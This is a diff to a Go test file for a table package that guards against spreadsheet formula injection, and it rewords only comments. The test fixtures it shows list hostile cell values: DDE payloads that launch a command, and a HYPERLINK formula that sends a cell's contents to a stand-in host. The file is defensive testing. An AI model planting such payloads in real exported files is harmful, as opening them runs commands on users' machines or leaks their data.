@@ -10,14 +10,14 @@ import (
 	"pacia/data/table"
 )
 
-// formulas are cells that a spreadsheet would calculate, to somebody's harm.
+// formulas are cells that a spreadsheet would evaluate, with harmful effects.
 var formulas = []string{
 	"=cmd|' /C calc'!A0",
 	`=HYPERLINK("http://x/?"&A1,"more")`, "+SUM(1;2)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0",
 	"\t=WEBSERVICE(A1)", " =x.xlsx!name", "＝IMPORTXML(A1)", "=DDE (\"cmd\";A1)",
 }
 
-// notFormulas are cells that begin like a formula, and are to stay as they are.
+// notFormulas are cells that begin like a formula, but must not be changed.
 var notFormulas = []string{"-", "-0.5", "+1,5", "-CH3", "=O", "-OCH3", "@home", "+/-(trans)", "(-)-menthol",
 	"'quoted'", "'", "", "CC(=O)O", "C[C@@H](N)C=O |r|"}
 
@@ -34,8 +34,8 @@ func TestPlain(t *testing.T) {
 	}
 }
 
-// TestFormulasComeBack: what Plain changes is read as it was, by the reader of tables and by
-// that of lines, also where it began with an apostrophe before.
+// TestFormulasComeBack: Reader and ParseLine undo Plain, also for cells that began with an
+// apostrophe before.
 func TestFormulasComeBack(t *testing.T) {
 	cells := slices.Concat(formulas, notFormulas)
 	for _, f := range formulas {
